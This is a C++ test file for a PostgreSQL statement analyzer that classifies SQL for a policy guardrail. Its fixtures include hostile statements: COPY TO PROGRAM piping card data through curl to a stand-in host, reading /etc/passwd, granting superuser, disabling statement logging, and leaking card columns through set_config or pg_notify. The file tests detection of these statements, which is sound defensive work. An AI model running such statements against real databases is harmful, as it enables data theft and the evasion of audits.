// Statement facts, one table row per statement kind: class, type, relations, functions, WHERE.
#include <fstream>
#include <optional>
#include <regex>
#include <string>
#include <utility>

#include <catch2/catch_test_macros.hpp>

#include "policy/sql/analyzer.h"
#include "policy/sql/statement_table.h"
#include "sql_support.h"

namespace tollgate::policy {
namespace {

using testing::Names;
using C = StatementClass;

struct Row {
  const char* sql;
  C cls;
  const char* type;
  Names reads;
  Names writes;
  Names functions;
  bool has_where = true;
};

// One statement per row (facts of statements[0]; the row asserts there is exactly one).
const std::vector<Row> kRows = {
    // Reads.
    {"SELECT * FROM cards WHERE id = 42", C::kRead, "select", {"cards"}, {}, {}},
    {"select a.x, b.y from s.a join b on a.id = b.id", C::kRead, "select", {"s.a", "b"}, {}, {}},
    {"SELECT count(*) FROM (SELECT * FROM cards) c", C::kRead, "select", {"cards"}, {}, {"count"}},
    {"SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE EXISTS (SELECT 1 FROM v))",
     C::kRead,
     "select",
     {"t", "u", "v"},
     {},
     {}},
    {"SELECT 1 UNION SELECT x FROM a EXCEPT SELECT y FROM b",
     C::kRead,
     "select",
     {"a", "b"},
     {},
     {}},
    {"VALUES (1, 'a'), (2, 'b')", C::kRead, "select", {}, {}, {}},
    {"TABLE cards", C::kRead, "select", {"cards"}, {}, {}},
    {"SELECT * FROM generate_series(1, 10) g", C::kRead, "select", {}, {}, {"generate_series"}},
    {"SELECT current_setting('work_mem')", C::kRead, "select", {}, {}, {"current_setting"}},
    {"SELECT pg_sleep(1)", C::kRead, "select", {}, {}, {"pg_sleep"}},
    {"WITH x AS (SELECT * FROM cards) SELECT * FROM x", C::kRead, "select", {"cards"}, {}, {}},
    {"WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) "
     "SELECT * FROM r",
     C::kRead,
     "select",
     {},
     {},
     {}},
    {"SHOW work_mem", C::kRead, "show", {}, {}, {}},
    {"FETCH 10 FROM c", C::kRead, "fetch", {}, {}, {}},
    {"MOVE NEXT IN c", C::kRead, "move", {}, {}, {}},
    {"DECLARE c CURSOR FOR SELECT * FROM cards", C::kRead, "declare_cursor", {"cards"}, {}, {}},
    {"EXPLAIN SELECT * FROM cards", C::kRead, "explain", {"cards"}, {}, {}},
    {"EXPLAIN DELETE FROM cards", C::kRead, "explain", {"cards"}, {}, {}},
    {"EXPLAIN (ANALYZE false) DELETE FROM cards", C::kRead, "explain", {"cards"}, {}, {}},
    {"EXPLAIN (ANALYZE off, COSTS true) UPDATE t SET a = 1", C::kRead, "explain", {"t"}, {}, {}},
    {"EXPLAIN (ANALYZE 0) DELETE FROM t", C::kRead, "explain", {"t"}, {}, {}},
    {"COPY cards TO STDOUT", C::kRead, "copy", {"cards"}, {}, {}},
    {"COPY (SELECT pan FROM cards) TO STDOUT WITH (FORMAT csv)",
     C::kRead,
     "copy",
     {"cards"},
     {},
     {}},
    {"PREPARE q(int) AS SELECT * FROM cards WHERE id = $1", C::kRead, "prepare", {"cards"}, {}, {}},
    {"SELECT * FROM a WHERE x = (SELECT max(y) FROM b)",
     C::kRead,
     "select",
     {"a", "b"},
     {},
     {"max"}},
    // Writes.
    {"INSERT INTO cards (id, pan) VALUES (1, '4111111111111111')",
     C::kWrite,
     "insert",
     {},
     {"cards"},
     {}},
    {"INSERT INTO archive SELECT * FROM cards", C::kWrite, "insert", {"cards"}, {"archive"}, {}},
    {"INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = excluded.v RETURNING id",
     C::kWrite,
     "insert",
     {},
     {"t"},
     {}},
    {"UPDATE cards SET pan = 'x' WHERE id = 1", C::kWrite, "update", {}, {"cards"}, {}},
    {"UPDATE cards SET pan = 'x'", C::kWrite, "update", {}, {"cards"}, {}, false},
    {"UPDATE t SET a = u.a FROM u WHERE t.id = u.id", C::kWrite, "update", {"u"}, {"t"}, {}},
    {"UPDATE t SET a = 1 WHERE CURRENT OF c", C::kWrite, "update", {}, {"t"}, {}},
    {"DELETE FROM cards WHERE id = 7", C::kWrite, "delete", {}, {"cards"}, {}},
    {"DELETE FROM cards", C::kWrite, "delete", {}, {"cards"}, {}, false},
    {"DELETE FROM t USING u WHERE t.id = u.id", C::kWrite, "delete", {"u"}, {"t"}, {}},
    {"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v "
     "WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)",
     C::kWrite,
     "merge",
     {"s"},
     {"t"},
     {}},
    {"COPY cards FROM STDIN", C::kWrite, "copy", {}, {"cards"}, {}},
    {"SELECT * FROM cards WHERE id = 1 FOR UPDATE", C::kWrite, "select", {"cards"}, {}, {}},
    {"SELECT * FROM cards FOR SHARE SKIP LOCKED", C::kWrite, "select", {"cards"}, {}, {}},
    {"SELECT * FROM (SELECT * FROM cards FOR UPDATE) s", C::kWrite, "select", {"cards"}, {}, {}},
    {"WITH d AS (DELETE FROM cards RETURNING *) SELECT * FROM d",
     C::kWrite,
     "select",
     {},
     {"cards"},
     {},
     false},
    {"WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) SELECT * FROM u",
     C::kWrite,
     "select",
     {},
     {"t"},
     {}},
    {"WITH i AS (INSERT INTO log VALUES (1) RETURNING id) INSERT INTO t SELECT id FROM i",
     C::kWrite,
     "insert",
     {},
     {"log", "t"},
     {}},
    {"EXPLAIN ANALYZE DELETE FROM cards", C::kWrite, "explain", {}, {"cards"}, {}, false},
    {"EXPLAIN (ANALYZE, FORMAT json) UPDATE t SET a = 1 WHERE id = 1",
     C::kWrite,
     "explain",
     {},
     {"t"},
     {}},
    {"EXPLAIN (ANALYZE 'on') DELETE FROM t WHERE x = 1", C::kWrite, "explain", {}, {"t"}, {}},
    {"EXPLAIN (ANALYZE 1) DELETE FROM t WHERE x = 1", C::kWrite, "explain", {}, {"t"}, {}},
    {"PREPARE d AS DELETE FROM cards WHERE id = $1", C::kWrite, "prepare", {}, {"cards"}, {}},
    {"CALL do_things(1)", C::kWrite, "call", {}, {}, {"do_things"}},
    {"LOCK TABLE cards IN ACCESS EXCLUSIVE MODE", C::kWrite, "lock", {}, {"cards"}, {}},
    {"LOCK TABLE cards IN ROW SHARE MODE", C::kWrite, "lock", {}, {"cards"}, {}},
    {"LOCK cards", C::kWrite, "lock", {}, {"cards"}, {}},
    // pg_dump's lock: what a SELECT takes.
    {"LOCK TABLE public.cards IN ACCESS SHARE MODE", C::kRead, "lock", {"public.cards"}, {}, {}},
    {"SELECT nextval('s')", C::kWrite, "select", {}, {}, {"nextval"}},
    {"COPY (DELETE FROM t RETURNING *) TO STDOUT", C::kWrite, "copy", {}, {"t"}, {}, false},
    // DDL.
    {"CREATE TABLE t (id int PRIMARY KEY, pan text)", C::kDdl, "create_table", {}, {"t"}, {}},
    {"CREATE TABLE s.t2 AS SELECT * FROM cards",
     C::kDdl,
     "create_table_as",
     {"cards"},
     {"s.t2"},
     {}},
    {"CREATE MATERIALIZED VIEW mv AS SELECT * FROM cards",
     C::kDdl,
     "create_materialized_view",
     {"cards"},
     {"mv"},
     {}},
    {"SELECT * INTO newtable FROM cards", C::kDdl, "select_into", {"cards"}, {"newtable"}, {}},
    // The grammar leaves INTO on the leftmost arm of a set operation.
    {"SELECT cvv INTO newtable FROM cards UNION ALL SELECT 'x'",
     C::kDdl,
     "select_into",
     {"cards"},
     {"newtable"},
     {}},
    {"CREATE VIEW v AS SELECT pan FROM cards", C::kDdl, "create_view", {"cards"}, {"v"}, {}},
    {"CREATE INDEX i ON cards (pan)", C::kDdl, "create_index", {}, {"cards"}, {}},
    {"ALTER TABLE cards ADD COLUMN note text", C::kDdl, "alter_table", {}, {"cards"}, {}},
    {"DROP TABLE a, s.b", C::kDdl, "drop", {}, {"a", "s.b"}, {}},
    {"DROP FUNCTION f(int)", C::kDdl, "drop", {}, {}, {}},
    {"TRUNCATE cards", C::kDdl, "truncate", {}, {"cards"}, {}},
    {"GRANT SELECT ON cards TO bob", C::kDdl, "grant", {}, {"cards"}, {}},
    {"REVOKE ALL ON cards FROM bob", C::kDdl, "revoke", {}, {"cards"}, {}},
    {"COMMENT ON TABLE cards IS 'card data'", C::kDdl, "comment", {}, {}, {}},
    {"ALTER TABLE cards RENAME TO cards_old", C::kDdl, "rename", {}, {"cards"}, {}},
    {"CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
     C::kDdl,
     "create_function",
     {},
     {},
     {}},
    {"CREATE SCHEMA s", C::kDdl, "create_schema", {}, {}, {}},
    {"CREATE SEQUENCE seq START 4111111111111111", C::kDdl, "create_sequence", {}, {"seq"}, {}},
    {"REFRESH MATERIALIZED VIEW mv", C::kDdl, "refresh_materialized_view", {}, {"mv"}, {}},
    // Admin.
    {"SELECT pg_read_file('/etc/passwd')", C::kAdmin, "select", {}, {}, {"pg_read_file"}},
    {"SELECT pg_catalog.pg_read_file('/etc/passwd')",
     C::kAdmin,
     "select",
     {},
     {},
     {"pg_catalog.pg_read_file"}},
    {"SELECT * FROM cards WHERE pg_terminate_backend(42)",
     C::kAdmin,
     "select",
     {"cards"},
     {},
     {"pg_terminate_backend"}},
    {"SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
     C::kAdmin,
     "select",
     {},
     {},
     {"dblink"}},
    {"SELECT dblink_exec('host=x', 'drop table t')", C::kAdmin, "select", {}, {}, {"dblink_exec"}},
    {"SELECT set_config('role', 'admin', false)", C::kAdmin, "select", {}, {}, {"set_config"}},
    // set_config stands for SET: harmless settings keep the statement's own class.
    {"SELECT pg_catalog.set_config('search_path', '', false)",
     C::kRead,
     "select",
     {},
     {},
     {"pg_catalog.set_config"}},
    {"SELECT set_config('Statement_Timeout', '0', true)",
     C::kRead,
     "select",
     {},
     {},
     {"set_config"}},
    {"SELECT set_config('app.tenant', '7', false)", C::kAdmin, "select", {}, {}, {"set_config"}},
    {"SELECT set_config('session_authorization', 'bob', false)",
     C::kAdmin,
     "select",
     {},
     {},
     {"set_config"}},
    {"SELECT set_config('session_replication_role', 'replica', false)",
     C::kAdmin,
     "select",
     {},
     {},
     {"set_config"}},
    {"SELECT set_config('standard_conforming_strings', 'off', false)",
     C::kAdmin,
     "select",
     {},
     {},
     {"set_config"}},
    {"SELECT set_config(name, 'x', false) FROM t", C::kAdmin, "select", {"t"}, {}, {"set_config"}},
    {"SELECT set_config('search_path', 'x')", C::kAdmin, "select", {}, {}, {"set_config"}},
    // The value comes from the client, never from the data: the server reports
    // application_name back (ParameterStatus), and current_setting() returns any setting.
    {"SELECT set_config('application_name', pan, false) FROM cards",
     C::kAdmin,
     "select",
     {"cards"},
     {},
     {"set_config"}},
    {"SELECT set_config('application_name', $1, false)",
     C::kRead,
     "select",
     {},
     {},
     {"set_config"}},
    // UPDATE pg_settings is set_config() by the view's rule.
    {"UPDATE pg_settings SET setting = p.cvv FROM ptab p WHERE name = 'application_name'",
     C::kAdmin,
     "update",
     {"ptab"},
     {"pg_settings"},
     {}},
    {"WITH pg_settings AS (SELECT 1) UPDATE pg_catalog.pg_settings SET setting = 'on' WHERE "
     "name = 'debug_print_plan'",
     C::kAdmin,
     "update",
     {},
     {"pg_catalog.pg_settings"},
     {}},
    {"WITH pg_settings AS (SELECT 1) SELECT * FROM pg_settings", C::kRead, "select", {}, {}, {}},
    {"SELECT set_config('application_name', 'job 7'::text, false)",
     C::kRead,
     "select",
     {},
     {},
     {"set_config"}},
    // pg_dump's "set it where the server has it" idiom names the setting through pg_settings.
    {"SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = "
     "'restrict_nonsystem_relation_kind'",
     C::kRead,
     "select",
     {"pg_settings"},
     {},
     {"set_config"}},
    {"SELECT set_config(name, 'bob', false) FROM pg_catalog.pg_settings WHERE name = 'role'",
     C::kAdmin,
     "select",
     {"pg_catalog.pg_settings"},
     {},
     {"set_config"}},
    {"SELECT set_config(name, 'x', false) FROM pg_settings WHERE name <> 'search_path'",
     C::kAdmin,
     "select",
     {"pg_settings"},
     {},
     {"set_config"}},
    {"WITH pg_settings AS (SELECT 'role' AS name) SELECT set_config(name, 'x', false) FROM "
     "pg_settings WHERE name = 'search_path'",
     C::kAdmin,
     "select",
     {},
     {},
     {"set_config"}},
    {"SELECT (SELECT set_config(name, 'x', false) FROM t) FROM pg_settings WHERE name = "
     "'search_path'",
     C::kAdmin,
     "select",
     {"pg_settings", "t"},
     {},
     {"set_config"}},
    {"SELECT query_to_xml('delete from cards', true, true, '')",
     C::kAdmin,
     "select",
     {},
     {},
     {"query_to_xml"}},
    {"SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, cvv::tsquery FROM cards')",
     C::kAdmin,
     "select",
     {},
     {},
     {"ts_rewrite"}},
    {"SELECT pg_notify('c', cvv) FROM cards", C::kAdmin, "select", {"cards"}, {}, {"pg_notify"}},
    {"SELECT lo_import('/etc/passwd')", C::kAdmin, "select", {}, {}, {"lo_import"}},
    {"SELECT pg_reload_conf()", C::kAdmin, "select", {}, {}, {"pg_reload_conf"}},
    {"EXPLAIN SELECT pg_read_file('x')", C::kAdmin, "explain", {}, {}, {"pg_read_file"}},
    {"INSERT INTO t VALUES (pg_read_file('x'))", C::kAdmin, "insert", {}, {"t"}, {"pg_read_file"}},
    {"COPY cards TO PROGRAM 'curl -d @- evil'", C::kAdmin, "copy", {"cards"}, {}, {}},
    {"COPY cards FROM PROGRAM 'cat /etc/passwd'", C::kAdmin, "copy", {}, {"cards"}, {}},
    {"COPY cards TO '/tmp/cards.csv'", C::kAdmin, "copy", {"cards"}, {}, {}},
    {"COPY cards FROM '/tmp/cards.csv'", C::kAdmin, "copy", {}, {"cards"}, {}},
    {"DO $$BEGIN DELETE FROM cards; END$$", C::kAdmin, "do", {}, {"cards"}, {}, false},
    {"DO LANGUAGE plpgsql $x$ BEGIN PERFORM pg_sleep(1); "
     "UPDATE t SET a = 1 WHERE id = 2; END $x$",
     C::kAdmin,
     "do",
     {},
     {"t"},
     {"pg_sleep"}},
    {"DO $$DECLARE n int; BEGIN n := (SELECT count(*) FROM cards); END$$",
     C::kAdmin,
     "do",
     {"cards"},
     {},
     {"count"}},
    {"DO LANGUAGE plpython3u 'import os'", C::kAdmin, "do", {}, {}, {}},
    {"SET ROLE admin", C::kAdmin, "set", {}, {}, {}},
    {"SET session_replication_role = replica", C::kAdmin, "set", {}, {}, {}},
    {"SET log_statement = 'none'", C::kAdmin, "set", {}, {}, {}},
    {"SET LOCAL log_min_duration_statement = -1", C::kAdmin, "set", {}, {}, {}},
    {"SELECT set_config('log_statement', 'none', false)",
     C::kAdmin,
     "select",
     {},
     {},
     {"set_config"}},
    {"SET SESSION AUTHORIZATION bob", C::kAdmin, "set", {}, {}, {}},
    {"SET LOCAL ROLE admin", C::kAdmin, "set", {}, {}, {}},
    {"SET standard_conforming_strings = off", C::kAdmin, "set", {}, {}, {}},
    {"ALTER SYSTEM SET work_mem = '1GB'", C::kAdmin, "alter_system", {}, {}, {}},
    {"CREATE ROLE r LOGIN PASSWORD 'secret'", C::kAdmin, "create_role", {}, {}, {}},
    {"ALTER ROLE bob SUPERUSER", C::kAdmin, "alter_role", {}, {}, {}},
    {"GRANT admin TO bob", C::kAdmin, "grant_role", {}, {}, {}},
    {"VACUUM ANALYZE cards", C::kAdmin, "vacuum", {}, {"cards"}, {}},
    {"ANALYZE cards", C::kAdmin, "analyze", {}, {"cards"}, {}},
    {"CLUSTER cards USING i", C::kAdmin, "cluster", {}, {"cards"}, {}},
    {"REINDEX TABLE cards", C::kAdmin, "reindex", {}, {"cards"}, {}},
    {"CHECKPOINT", C::kAdmin, "checkpoint", {}, {}, {}},
    {"CREATE EXTENSION dblink", C::kAdmin, "create_extension", {}, {}, {}},
    {"LOAD 'auto_explain'", C::kAdmin, "load", {}, {}, {}},
    {"CREATE DATABASE d", C::kAdmin, "create_database", {}, {}, {}},
    {"PREPARE TRANSACTION 'gid1'", C::kAdmin, "prepare_transaction", {}, {}, {}},
    {"COMMIT PREPARED 'gid1'", C::kAdmin, "commit_prepared", {}, {}, {}},
    {"PREPARE p AS SELECT pg_ls_dir('.')", C::kAdmin, "prepare", {}, {}, {"pg_ls_dir"}},
    // Transaction.
    {"BEGIN", C::kTransaction, "begin", {}, {}, {}},
    {"START TRANSACTION ISOLATION LEVEL SERIALIZABLE", C::kTransaction, "begin", {}, {}, {}},
    {"COMMIT", C::kTransaction, "commit", {}, {}, {}},
    {"END", C::kTransaction, "commit", {}, {}, {}},
    {"ROLLBACK", C::kTransaction, "rollback", {}, {}, {}},
    {"ABORT", C::kTransaction, "rollback", {}, {}, {}},
    {"SAVEPOINT sp", C::kTransaction, "savepoint", {}, {}, {}},
    {"RELEASE SAVEPOINT sp", C::kTransaction, "release", {}, {}, {}},
    {"ROLLBACK TO SAVEPOINT sp", C::kTransaction, "rollback_to", {}, {}, {}},
    {"SET TRANSACTION ISOLATION LEVEL REPEATABLE READ",
     C::kTransaction,
     "set_transaction",
     {},
     {},
     {}},
    {"SET CONSTRAINTS ALL DEFERRED", C::kTransaction, "set_constraints", {}, {}, {}},
    // A read grant's session is read-only: making a transaction read-write is a write.
    {"START TRANSACTION READ ONLY", C::kTransaction, "begin", {}, {}, {}},
    {"BEGIN READ WRITE", C::kWrite, "begin", {}, {}, {}},
    {"BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE", C::kWrite, "begin", {}, {}, {}},
    {"SET TRANSACTION READ WRITE", C::kWrite, "set_transaction", {}, {}, {}},
    {"SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
     C::kWrite,
     "set_transaction",
     {},
     {},
     {}},
    {"SET default_transaction_read_only = off", C::kWrite, "set", {}, {}, {}},
    {"SET transaction_read_only TO 0", C::kWrite, "set", {}, {}, {}},
    {"SET LOCAL transaction_read_only = 'no'", C::kWrite, "set", {}, {}, {}},
    {"SET default_transaction_read_only = on", C::kOther, "set", {}, {}, {}},
    {"SET transaction_read_only = 1", C::kOther, "set", {}, {}, {}},
    {"SET default_transaction_read_only TO DEFAULT", C::kOther, "set", {}, {}, {}},
    {"SELECT set_config('default_transaction_read_only', 'off', false)",
     C::kAdmin,
     "select",
     {},
     {},
     {"set_config"}},
    {"SELECT set_config('default_transaction_read_only', 'on', false)",
     C::kRead,
     "select",
     {},
     {},
     {"set_config"}},
    // Other.
    {"SET search_path TO app, public", C::kOther, "set", {}, {}, {}},
    {"SET standard_conforming_strings = on", C::kOther, "set", {}, {}, {}},
    {"RESET ALL", C::kOther, "reset", {}, {}, {}},
    {"RESET ROLE", C::kOther, "reset", {}, {}, {}},
    {"DISCARD ALL", C::kOther, "discard", {}, {}, {}},
    {"LISTEN ch", C::kOther, "listen", {}, {}, {}},
    {"UNLISTEN *", C::kOther, "unlisten", {}, {}, {}},
    {"NOTIFY ch, 'payload'", C::kOther, "notify", {}, {}, {}},
    {"EXECUTE q(1)", C::kOther, "execute", {}, {}, {}},
    {"DEALLOCATE q", C::kOther, "deallocate", {}, {}, {}},
    {"CLOSE c", C::kOther, "close", {}, {}, {}},
};

TEST_CASE("statement facts table", "[sql]") {
  for (const Row& row : kRows) {
    INFO(row.sql);
    QueryFactsPtr q = SqlAnalyzer::analyzeUncached(row.sql);
    INFO(testing::dump(*q));
    REQUIRE(q->parsed);
    REQUIRE(q->statements.size() == 1);
    const StatementFacts& f = q->statements[0];
    CHECK(className(f.cls) == className(row.cls));
    CHECK(f.type == row.type);
    CHECK(sql::isStatementType(f.type));  // a guardrail may name it
    CHECK(f.reads == row.reads);
    CHECK(f.writes == row.writes);
    CHECK(f.functions == row.functions);
    CHECK(f.has_where == row.has_where);
    CHECK(f.fingerprint.size() == 16);
  }
}

TEST_CASE("every statement kind of the parser has a type a guardrail may name", "[sql]") {
  // The parser's own list of statement nodes (libpg-query-dev). A kind missing from the table
  // would get a type derived from its name, which the policy loader refuses as unknown.
  std::ifstream proto("/usr/include/pg_query/pg_query.proto");
  if (!proto) SKIP("libpg-query-dev's pg_query.proto is not installed");
  const std::regex message(R"(^message (\w+Stmt)\b)");
  int kinds = 0;
  for (std::string line; std::getline(proto, line);) {
    std::smatch m;
    if (!std::regex_search(line, m, message)) continue;
    const std::string node = m[1];
    // Parts of other statements, never a statement of their own.
    if (node == "RawStmt" || node == "SetOperationStmt" || node == "PLAssignStmt") {
      continue;
    }
    ++kinds;
    INFO(node);
    std::string derived;
    const sql::StatementKind k = sql::statementKind(node, &derived);
    CHECK(derived.empty());
    CHECK(sql::isStatementType(k.type));
  }
  CHECK(kinds > 100);
}

TEST_CASE("nested statement types are reported", "[sql]") {
  struct Case {
    const char* sql;
    Names inner;
  };
  const Case cases[] = {
      {"WITH d AS (DELETE FROM cards RETURNING *) SELECT * FROM d", {"delete"}},
      {"EXPLAIN ANALYZE UPDATE t SET a = 1", {"update"}},
      {"PREPARE p AS INSERT INTO t VALUES ($1)", {"insert"}},
      {"DO $$BEGIN TRUNCATE t; DELETE FROM u WHERE id = 1; END$$", {"truncate", "delete"}},
      {"SELECT * FROM t", {}},
      {"CREATE FUNCTION f() RETURNS int LANGUAGE sql RETURN 1", {"return"}},
  };
  for (const Case& c : cases) {
    INFO(c.sql);
    QueryFactsPtr q = SqlAnalyzer::analyzeUncached(c.sql);
    REQUIRE(q->statements.size() == 1);
    CHECK(q->statements[0].inner_types == c.inner);
  }
}

TEST_CASE("an INSERT that may update rows (ON CONFLICT DO UPDATE) says so", "[sql]") {
  const std::pair<const char*, bool> cases[] = {
      {"INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2", true},
      {"WITH i AS (INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2 RETURNING id) "
       "SELECT * FROM i",
       true},
      {"PREPARE p AS INSERT INTO t VALUES ($1) ON CONFLICT ON CONSTRAINT k DO UPDATE SET a = 1",
       true},
      {"INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", false},
      {"INSERT INTO t VALUES (1)", false},
      {"UPDATE t SET a = 1 WHERE id = 1", false},
  };
  for (const auto& [sql, upserts] : cases) {
    INFO(sql);
    QueryFactsPtr q = SqlAnalyzer::analyzeUncached(sql);
    REQUIRE(q->statements.size() == 1);
    CHECK(q->statements[0].upserts == upserts);
  }
}

TEST_CASE("referenced columns and whole-row references are reported", "[sql]") {
  struct Case {
    const char* sql;
    Names columns;
    bool row_reference;
  };
  const Case cases[] = {
      {"SELECT (cvv || 'x')::int FROM cards WHERE id = 1", {"cvv", "id"}, false},
      {"SELECT 1 FROM cards c WHERE (c::text)::int = 0", {"c"}, true},
      {"SELECT * FROM cards", {}, true},
      {"SELECT x.* FROM cards AS x", {}, true},
      {"SELECT k FROM (SELECT \"CVV\" AS k FROM cards) s", {"CVV", "k"}, false},
      {"SELECT holder FROM cards c", {"holder"}, false},
      {"SELECT 'abc'::int", {}, false},
      {"DO $$BEGIN PERFORM cvv FROM cards; END$$", {"cvv"}, false},
  };
  for (const Case& c : cases) {
    INFO(c.sql);
    QueryFactsPtr q = SqlAnalyzer::analyzeUncached(c.sql);
    REQUIRE(q->statements.size() == 1);
    CHECK(q->statements[0].columns == c.columns);
    CHECK(q->statements[0].row_reference == c.row_reference);
  }
}

TEST_CASE("COPY TO STDOUT reports its row format", "[sql]") {
  struct CopyCase {
    const char* sql;
    const char* format;  // copyDump() of the statement, "" for no copy_out
  };
  const CopyCase cases[] = {
      {"COPY public.cards (id, pan) TO stdout;",
       " copy_out=text delimiter=\t null=\\N quote=\" escape=\" header=false"},
      {"COPY cards TO STDOUT WITH CSV HEADER",
       " copy_out=csv delimiter=, null= quote=\" escape=\" header=true"},
      {"COPY (SELECT 1) TO STDOUT (FORMAT csv, DELIMITER ';', NULL 'n', QUOTE '''')",
       " copy_out=csv delimiter=; null=n quote=' escape=' header=false"},
      {"COPY cards TO STDOUT (FORMAT csv, QUOTE '\"', ESCAPE '\\', HEADER false)",
       " copy_out=csv delimiter=, null= quote=\" escape=\\ header=false"},
      {"COPY cards TO STDOUT (FORMAT text, DELIMITER '|', HEADER)",
       " copy_out=text delimiter=| null=\\N quote=\" escape=\" header=true"},
      {"COPY cards TO STDOUT BINARY",
       " copy_out=binary delimiter=\t null=\\N quote=\" escape=\" header=false"},
      {"COPY cards TO STDOUT (DELIMITER '||')",
       " copy_out=text delimiter=\t null=\\N quote=\" escape=\" header=false unreadable"},
      {"COPY cards TO STDOUT (FORMAT xml)",
       " copy_out=text delimiter=\t null=\\N quote=\" escape=\" header=false unreadable"},
      {"COPY cards TO STDOUT (ENCODING 'SJIS')",
       " copy_out=text delimiter=\t null=\\N quote=\" escape=\" header=false encoding=SJIS"},
      {"COPY cards FROM STDIN (FORMAT csv)", ""},
      {"COPY cards TO '/tmp/x'", ""},
  };
  for (const auto& c : cases) {
    INFO(c.sql);
    QueryFactsPtr q = SqlAnalyzer::analyzeUncached(c.sql);
    REQUIRE(q->statements.size() == 1);
    CHECK(testing::copyDump(q->statements[0]) == c.format);
  }
}

TEST_CASE("class names round-trip", "[sql]") {
  for (C c : {C::kRead, C::kWrite, C::kDdl, C::kAdmin, C::kTransaction, C::kOther}) {
    C parsed = C::kOther;
    REQUIRE(parseClass(className(c), &parsed));
    CHECK(parsed == c);
  }
  C unused = C::kRead;
  CHECK_FALSE(parseClass("READ", &unused));
  CHECK_FALSE(parseClass("", &unused));
}

TEST_CASE("what a statement sets client_encoding to is a fact", "[sql]") {
  struct EncodingRow {
    const char* sql;
    std::optional<std::string> encoding;  // "" when not a constant
  };
  const EncodingRow kEncodingRows[] = {
      {"SET client_encoding TO 'SJIS'", "sjis"},
      {"SET NAMES 'big5'", "big5"},
      {"SET client_encoding = UTF8", "utf8"},
      {"SET client_encoding TO DEFAULT", std::nullopt},
      {"SELECT set_config('client_encoding', 'GBK', false)", "gbk"},
      {"SELECT set_config('client_encoding', current_user, false)", ""},
      {"SELECT set_config(n, 'x', false) FROM t", ""},
      {"SELECT set_config('search_path', '', false)", std::nullopt},
      {"SELECT 1", std::nullopt},
  };
  for (const EncodingRow& row : kEncodingRows) {
    INFO(row.sql);
    auto facts = SqlAnalyzer::analyzeUncached(row.sql);
    REQUIRE(facts->parsed);
    CHECK(facts->statements[0].sets_client_encoding == row.encoding);
  }
}

}  // namespace
}  // namespace tollgate::policy
